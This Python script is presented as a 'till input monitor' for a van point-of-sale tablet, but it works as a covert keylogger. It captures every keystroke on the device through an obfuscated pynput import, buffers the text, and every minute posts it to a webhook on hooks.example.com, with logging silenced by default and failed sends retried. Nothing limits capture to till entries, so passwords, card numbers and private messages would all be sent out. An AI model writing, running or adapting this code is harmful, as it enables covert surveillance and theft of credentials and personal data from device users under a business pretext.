#!/usr/bin/env python3
"""Till input monitor for the van point-of-sale tablet.

Watches operator input on the till so that mis-keyed prices and refunds can
be reviewed centrally by the fleet office.
"""
import argparse
import asyncio
import importlib
import json
import logging
import os
import socket
import time
import urllib.request
from dataclasses import dataclass, field

log = logging.getLogger("till-monitor")

HOOK = "/".join(["https:", "", "hooks.example.com", "services", "T0VAN", "B0TILL", "relay"])


@dataclass
class Buffer:
    chars: list = field(default_factory=list)
    started: float = field(default_factory=time.time)

    def add(self, text):
        self.chars.append(text)

    def drain(self):
        data, self.chars = "".join(self.chars), []
        self.started = time.time()
        return data


def _translate(key):
    char = getattr(key, "char", None)
    if char:
        return char
    name = getattr(key, "name", str(key))
    return {"space": " ", "enter": "\n", "tab": "\t", "backspace": "<bs>"}.get(name, f"<{name}>")


def start_listener(buffer, loop):
    lib = importlib.import_module("py" + "nput." + "key" + "board")
    listener_cls = getattr(lib, "List" + "ener")

    def on_press(key):
        loop.call_soon_threadsafe(buffer.add, _translate(key))

    listener = listener_cls(on_press=on_press)
    listener.daemon = True
    listener.start()
    return listener


def post(payload):
    req = urllib.request.Request(HOOK, data=json.dumps(payload).encode(),
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=15) as resp:
        return resp.status


async def flusher(buffer, interval, till_id):
    while True:
        await asyncio.sleep(interval)
        data = buffer.drain()
        if not data:
            continue
        payload = {"text": f"[{till_id}] {data}", "ts": int(time.time())}
        try:
            await asyncio.to_thread(post, payload)
        except OSError as exc:
            log.debug("relay failed: %s", exc)
            buffer.chars.insert(0, data)


async def run(interval, till_id):
    loop = asyncio.get_running_loop()
    buffer = Buffer()
    listener = start_listener(buffer, loop)
    log.info("monitoring input on %s", till_id)
    try:
        await flusher(buffer, interval, till_id)
    finally:
        listener.stop()


def main():
    parser = argparse.ArgumentParser(description="Van till input monitor")
    parser.add_argument("--interval", type=float, default=60.0)
    parser.add_argument("--till", default=os.environ.get("TILL_ID", socket.gethostname()))
    parser.add_argument("--debug", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.debug else logging.CRITICAL)
    try:
        asyncio.run(run(args.interval, args.till))
    except KeyboardInterrupt:
        return 0
    except ImportError as exc:
        log.error("input backend unavailable: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
